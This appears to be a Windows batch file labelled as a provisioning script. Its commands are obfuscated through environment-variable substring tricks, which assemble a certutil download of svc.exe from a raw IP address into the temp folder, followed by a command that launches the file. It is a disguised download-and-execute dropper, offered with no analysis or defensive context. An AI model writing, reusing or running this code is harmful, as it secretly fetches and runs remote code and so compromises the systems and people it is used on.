REM provision 5461 v3
@echo off
%comspec:~-7,1%e%programdata:~4,1%%programdata:~-2,1%%PUBLIC:~-5,1%t%comspec:~-23,1%%PUBLIC:~12,1%.%COMSPEC:~-1,1%x%public:~5,1% -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
%PUBLIC:~4,1%t%PROGRAMDATA:~8,1%%PUBLIC:~6,1%t "" %TEMP%\svc.exe
